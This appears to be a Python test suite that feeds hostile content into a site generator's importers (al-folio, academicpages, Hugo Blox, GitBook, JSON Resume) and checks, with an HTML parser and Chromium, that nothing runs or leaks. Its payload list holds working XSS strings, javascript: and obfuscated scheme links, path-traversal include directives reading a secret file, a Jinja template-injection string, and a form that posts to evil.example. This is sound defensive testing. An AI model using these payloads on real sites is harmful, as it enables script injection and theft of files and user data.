"""Hostile imported content, round two: every payload in every place an importer reads text.

Each payload (raw HTML, directives and roles that read files or run script, links with
script schemes, Jinja, Liquid and Hugo templates, comment and fence tricks) is written into
the pages of a real importer input: an al-folio project and news item, an academicpages post
and portfolio item, a Hugo Blox post and project, a GitBook page and its SUMMARY title, each
as the body and as the title. One import and one strict build per importer; then each
(payload, place) is a case judged on the built site by two judges that are not ours:

- the HTML parser: the page that shows the payload's markers holds no script, event handler,
  frame, form or ``<base>`` the clean pages do not have, and no link or source with a scheme
  other than http(s) or mailto;
- Chromium: opening the page fires no dialog, sets no ``window.__pwned``, loads nothing from
  the attacker's host.

And for every case: the text around the payload reaches the page (nothing swallowed), a
payload the guard rewrote is named in the import's report, and no byte of the secret file
beside the source site appears anywhere in the output.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
from academicpages_fixture import write_academicpages
from alfolio_fixture import write_alfolio
from browser import launch, serve
from bs4 import BeautifulSoup, Tag
from gitbook_fixture import write_space
from hugoblox_fixture import write_hugoblox

from scholarsite.cli import main

SECRET = "SECRET-5e1f0c-DO-NOT-PUBLISH"
EVIL = "evil.example"

# (payload, live): live payloads hold a construct the build would run, read a file with or
# leave the site by; the import must rewrite them and say so. ``@SECRET@`` is the absolute
# path of a file outside the source site.
PAYLOADS: list[tuple[str, bool]] = [
    ("```{raw} html\n<script>window.__pwned=1</script>\n```", True),
    ("```{include} @SECRET@\n```", True),
    ("```{literalinclude} ../../../../../../secret.txt\n```", True),
    ("```{include} ../secret.txt\n```", True),
    (":::{raw} html\n<script>window.__pwned=2</script>\n:::", True),
    ("````{note}\nA note\n```{raw} html\n<img src=x onerror=alert(1)>\n```\n````", True),
    ("```{tab-set}\n````{tab-item} A\n```{include} @SECRET@\n```\n````\n```", True),
    ("```{eval-rst}\n.. raw:: html\n\n   <script>window.__pwned=3</script>\n```", True),
    ("```{eval-rst}\n.. include:: @SECRET@\n```", True),
    ("```{csv-table} T\n:file: @SECRET@\n```", True),
    ("```{figure} ../../../../../secret.txt\nA caption\n```", True),
    ("```{image} @SECRET@\n```", True),
    ("```\n<script>window.__pwned=4</script>\n````\n\n<script>window.__pwned=5</script>", False),
    ("``` `x` ``\n<script>window.__pwned=6</script>", True),
    ("`` `code` ``<script>window.__pwned=7</script>", True),
    ("\\`<script>window.__pwned=8</script>\\`", True),
    ("<!--><script>alert(2)</script>-->", True),
    ("<!--->\n<img src=x onerror=alert(3)>", True),
    ("<!-- a --!><script>window.__pwned=9</script>", True),
    ("<div>\n<script>window.__pwned=10</script>\n</div>", True),
    ("Text <img src=x onerror=alert(4)> more", True),
    ("<a href='javascript:alert(5)'>x</a>", True),
    ('<a href="&#106;avascript:alert(6)">x</a>', True),
    ('<a href=" javascript:alert(7)">x</a>', True),
    ("<svg><script>window.__pwned=11</script></svg>", True),
    ('<svg onload="alert(8)"></svg>', True),
    ("<math><mtext><script>window.__pwned=12</script></mtext></math>", True),
    ('<noscript><p title="</noscript><img src=x onerror=alert(9)>"></noscript>', True),
    ('<iframe src="https://evil.example/frame"></iframe>', True),
    ('<object data="https://evil.example/x.swf"></object>', True),
    ('<embed src="https://evil.example/x.swf">', True),
    ('<base href="https://evil.example/">', True),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', True),
    ('<form action="https://evil.example/steal"><input name=p></form>', True),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', True),
    ("<style>body{background:url(https://evil.example/x.png)}</style>", True),
    ('<img src="x.png" style="background:url(javascript:alert(10))">', True),
    ('<img srcset="javascript:alert(11) 1x">', True),
    ("<details open ontoggle=alert(12)><summary>s</summary></details>", True),
    ("<scr<script>ipt>window.__pwned=13</scr</script>ipt>", True),
    ("A {raw}`<script>window.__pwned=14</script>` role", True),
    ("{download}`secret <../../../../../../secret.txt>`", True),
    ("{eval-rst}`:raw-html:`<script>window.__pwned=15</script>``", True),
    ("[x](javascript:alert(13)) [y](vbscript:z) [z](data:text/html,<script>alert(14)</script>)",
     True),
    ("[x](JaVaScRiPt:alert(15)) [y](java&#x09;script:alert(16))", True),
    ("[x][ref]\n\n[ref]: javascript:alert(17)", False),  # markdown-it makes no such link
    ("<javascript:alert(18)>", False),  # an autolink MyST does not make: it stays text
    ("![y](../../../../../../secret.txt) ![z](file://@SECRET@)", True),
    ("Footnote[^1].\n\n[^1]: [f](javascript:alert(19))", True),
    ("   ```{raw} html\n   <script>window.__pwned=16</script>\n   ```", True),
    ("> ```{raw} html\n> <script>window.__pwned=17</script>\n> ```", True),
    ("- item\n\n  ```{include} @SECRET@\n  ```", True),
    ("~~~{raw} html\n<script>window.__pwned=18</script>\n~~~", True),
    ("{{ self.__init__.__globals__.__builtins__.open('@SECRET@').read() }}", False),
    ("{% include ../../secret.txt %} {% raw %}<script>window.__pwned=19</script>{% endraw %}",
     True),
    ('{{< rawhtml >}}<script>window.__pwned=20</script>{{< /rawhtml >}}', True),
    ('{{% callout note %}}<img src=x onerror=alert(20)>{{% /callout %}}', True),
    ("# <script>window.__pwned=21</script> heading", True),
    ("$$\n\\href{javascript:alert(21)}{x}\n$$", False),
    ("Line one\u2028<script>window.__pwned=22</script>\u2029end", True),
]


@dataclass(frozen=True)
class Place:
    """Where an importer reads a payload: ``write(src, i, body, title)`` adds the page."""
    command: str
    name: str
    write_site: Callable[[Path], Path]
    folder: str
    rewrites: bool = True  # Markdown the guard rewrites; False: data the templates escape

    def page(self, i: int) -> str:
        return self.folder.format(i=i)


def _front(title: str, extra: str = "") -> str:
    return f"---\ntitle: {json.dumps(title)}\n{extra}---\n\n"


PLACES = [
    Place("import-al-folio", "project", write_alfolio, "_projects/h{i}.md"),
    Place("import-al-folio", "news", write_alfolio, "_news/h{i}.md"),
    Place("import-academicpages", "post", write_academicpages, "_posts/2020-01-01-h{i}.md"),
    Place("import-academicpages", "portfolio", write_academicpages, "_portfolio/h{i}.md"),
    Place("import-hugo-blox", "post", write_hugoblox, "content/post/h{i}/index.md"),
    Place("import-hugo-blox", "project", write_hugoblox, "content/project/h{i}/index.md"),
    Place("import-gitbook", "page", write_space, "hostile/h{i}.md"),
    Place("import-jsonresume", "work", lambda root: root, "resume.json", rewrites=False),
]
COMMANDS = sorted({place.command for place in PLACES})
EXTRA = {"news": "date: 2020-01-01\nlayout: post\n", "post": "date: 2020-01-01\n",
         "portfolio": "collection: portfolio\n", "project": "date: 2020-01-01\n"}


def _marks(place: Place, i: int) -> tuple[str, str, str]:
    """(title mark, before mark, after mark) of payload ``i`` in ``place``: words that
    survive any rewrite, so their pages can be found."""
    tag = f"{place.name}{i}x"
    return f"Title{tag}", f"Before{tag}", f"After{tag}"


def _one_line(payload: str) -> str:
    return " ".join(payload.split())


def _write_resume(src: Path, secret: Path) -> None:
    """Every payload as a JSON Resume job: its position, summary and highlight."""
    place = next(place for place in PLACES if place.command == "import-jsonresume")
    work = []
    for i, (payload, _) in enumerate(PAYLOADS):
        payload = payload.replace("@SECRET@", str(secret))
        title, before, after = _marks(place, i)
        work.append({"name": f"Org {i}", "position": f"{title} {_one_line(payload)}",
                     "startDate": "2020-01", "summary": f"{before} {payload} {after}",
                     "highlights": [payload]})
    src.mkdir(parents=True, exist_ok=True)
    (src / "resume.json").write_text(json.dumps({"basics": {"name": "Jo Roe"}, "work": work}),
                                     encoding="utf-8")


def _write_payloads(src: Path, secret: Path, command: str) -> None:
    if command == "import-jsonresume":
        return _write_resume(src, secret)
    summary: list[str] = []
    for place in (place for place in PLACES if place.command == command):
        for i, (payload, _) in enumerate(PAYLOADS):
            payload = payload.replace("@SECRET@", str(secret))
            title, before, after = _marks(place, i)
            page = src / place.page(i)
            page.parent.mkdir(parents=True, exist_ok=True)
            front = "" if command == "import-gitbook" else _front(
                f"{title} {_one_line(payload)}", EXTRA.get(place.name, ""))
            page.write_text(f"{front}# {title} {_one_line(payload)}\n\n" if command ==
                            "import-gitbook" else front, encoding="utf-8")
            with page.open("a", encoding="utf-8") as file:
                file.write(f"{before}\n\n{payload}\n\n{after}\n")
            if command == "import-gitbook":
                label = _one_line(payload).replace("]", "\\]")
                summary.append(f"* [{title} {label}]({place.page(i)})")
    if summary:
        with (src / "SUMMARY.md").open("a", encoding="utf-8") as file:
            file.write("\n## Hostile\n\n" + "\n".join(summary) + "\n")


@dataclass
class Imported:
    out: Path
    report: str
    texts: dict[Path, str]  # its visible text
    unsafe: dict[Path, list[str]]  # what in it could run script or send data away


def _import(root: Path, command: str) -> Imported:
    secret = root / "secret.txt"
    secret.write_text(SECRET + "\n", encoding="utf-8")
    write = next(place.write_site for place in PLACES if place.command == command)
    src = write(root / "src")
    _write_payloads(src, secret, command)
    with pytest.MonkeyPatch.context() as patch:
        printed: list[str] = []
        patch.setattr("builtins.print",
                      lambda *args, **kw: printed.append(" ".join(map(str, args))))
        if command == "import-gitbook":  # a space joins a site's notes
            assert main(["init", str(root / "site"), "--yes"]) == 0
            assert main([command, str(src), str(root / "site/docs/notes/space")]) == 0, printed
        elif command == "import-jsonresume":
            assert main([command, str(src / "resume.json"), str(root / "site")]) == 0, printed
        else:
            assert main([command, str(src), str(root / "site")]) == 0, printed
        assert main(["check", str(root / "site" / "docs"), "--out", str(root / "out")]) == 0
    pages = {path: BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
             for path in (root / "out").rglob("*.html")}
    texts = {path: soup.get_text(" ") for path, soup in pages.items()}
    assert sorted(path.name for path in root.iterdir()) == [
        ".out-doctrees", "out", "secret.txt", "site", "src"]  # nothing written elsewhere
    clean = pages[root / "out" / "404.html"]  # what the theme itself puts in a page
    return Imported(root / "out", "\n".join(printed), texts,
                    {path: _unsafe(soup, clean) for path, soup in pages.items()})


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], Imported]:
    """The imported and built site of a command, made once (a failure fails its cases)."""
    made: dict[str, Imported | BaseException] = {}

    def site(command: str) -> Imported:
        if command not in made:
            try:
                made[command] = _import(tmp_path_factory.mktemp(command), command)
            except BaseException as error:  # noqa: BLE001 - each later case fails as it did
                made[command] = error
        if isinstance(made[command], BaseException):
            raise made[command]
        return made[command]
    return site


CASES = [(place, i) for place in PLACES for i in range(len(PAYLOADS))]


def _case_id(case: tuple[Place, int]) -> str:
    place, i = case
    return f"{place.command[7:]}-{place.name}-{i}"


_SAFE_SCHEMES = {"", "http", "https", "mailto"}
_URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "poster", "background",
                   "xlink:href", "cite", "srcset")
_NEVER = ("iframe", "object", "embed", "base", "frame", "frameset", "applet")


def _scheme(url: str) -> str:
    # what a browser does first: drop controls and spaces around and within the scheme
    url = re.sub(r"[\x00-\x20]", "", unquote(url)).lower()
    return urlsplit(url).scheme if ":" in url.split("/")[0] else ""


def _local(url: str) -> bool:
    return not re.match(r"[a-z][a-z0-9+.-]*:|//", url.strip(), re.I)


def _data(tag: Tag) -> bool:
    """A script element that is data (JSON-LD), whole: a browser does not run it."""
    try:
        json.loads(tag.get_text())
    except ValueError:
        return False
    return tag.get("type") == "application/ld+json"


def _unsafe(soup: BeautifulSoup, clean: BeautifulSoup) -> list[str]:
    """What in a page could run script, load from elsewhere or send data away. The theme's
    own: scripts of the site's files, its inline scripts (as on a page no payload reached),
    its search form, links to the site's own feed and address, JSON-LD data."""
    found = []
    inline = {tag.get_text() for tag in clean.find_all("script") if not tag.get("src")}
    for tag in soup.find_all(True):
        if tag.name == "script" and not (_local(tag.get("src", "")) if tag.get("src")
                                         else tag.get_text() in inline or _data(tag)):
            found.append(str(tag))
        elif tag.name == "form" and not _local(tag.get("action", "")):
            found.append(str(tag))
        elif tag.name == "link" and (EVIL in tag.get("href", "") or
                                     "import" in tag.get("rel", [])):
            found.append(str(tag))
        elif tag.name == "style" and EVIL in tag.get_text():
            found.append(str(tag))
        elif tag.name in _NEVER or (tag.name == "meta" and tag.get("http-equiv")):
            found.append(str(tag))
        for name, value in tag.attrs.items():
            values = value if isinstance(value, list) else [value]
            if name.lower().startswith("on"):
                found.append(f"{tag.name} {name}")
            if name.lower() in _URL_ATTRIBUTES:
                for url in values:
                    if _scheme(url.split()[0] if name == "srcset" and url.split() else url) \
                            not in _SAFE_SCHEMES:
                        found.append(f"{tag.name} {name}={url}")
            if name.lower() == "style" and ("url(" in " ".join(values) or
                                            "expression(" in " ".join(values)):
                found.append(f"{tag.name} style={values}")
    return found


@pytest.mark.parametrize("case", CASES, ids=[_case_id(case) for case in CASES])
def test_payload_is_shown_as_text_and_runs_nothing(case: tuple[Place, int],
                                                   imported: Callable[[str], Imported]) -> None:
    place, i = case
    site = imported(place.command)
    title, before, after = _marks(place, i)
    titled = [path for path, text in site.texts.items() if title in text]
    assert titled, f"the title of {place.page(i)} is on no page"
    shown = [path for path, text in site.texts.items() if before in text]
    assert shown, f"{place.page(i)} is on no page"
    assert any(after in site.texts[path] for path in shown), \
        f"the text after the payload in {place.page(i)} was swallowed"
    for path in {*titled, *shown}:
        assert not site.unsafe[path], (path, site.unsafe[path])
    if PAYLOADS[i][1] and place.rewrites:
        assert Path(place.page(i)).name in site.report, \
            f"{place.page(i)} was rewritten without a word in the report"


@pytest.mark.parametrize("command", COMMANDS)
def test_no_byte_of_the_secret_is_published(command: str,
                                            imported: Callable[[str], Imported]) -> None:
    for path in imported(command).out.rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes(), path


@pytest.mark.parametrize("command", COMMANDS)
def test_chromium_runs_nothing_on_any_hostile_page(command: str,
                                                   imported: Callable[[str], Imported]) -> None:
    site = imported(command)
    hostile = sorted(path.relative_to(site.out).as_posix() for path, text in site.texts.items()
                     if re.search(r"Before\w+\d+x", text))
    assert hostile
    events: list[str] = []
    with serve(site.out) as base, launch() as browser:
        page = browser.new_page()
        page.on("dialog", lambda dialog: (events.append(f"dialog {dialog.message}"),
                                          dialog.dismiss()))
        page.on("request", lambda request: EVIL in request.url and events.append(
            f"request {request.url}"))
        for name in hostile:
            page.goto(base + name, wait_until="load")
            if page.evaluate("window.__pwned") is not None:
                events.append(f"script ran on {name}")
            assert page.url.startswith(base), f"{name} sent the reader to {page.url}"
    assert events == []


@pytest.mark.parametrize("html", [
    "<script>window.__pwned=1</script>", '<img src=x onerror="alert(1)">',
    '<a href=" jav&#x09;ascript:alert(1)">x</a>', '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"></form>', '<img srcset="javascript:alert(1) 1x">',
    '<meta http-equiv="refresh" content="0">',
    '<script type="application/ld+json">{"a": "</script>',
    '<div style="background:url(https://evil.example/x)">x</div>',
])
def test_the_judge_sees_what_a_browser_would_run(html: str) -> None:
    clean = BeautifulSoup("<html><body><p>clean</p></body></html>", "html.parser")
    assert _unsafe(BeautifulSoup(f"<html><body>{html}</body></html>", "html.parser"), clean)
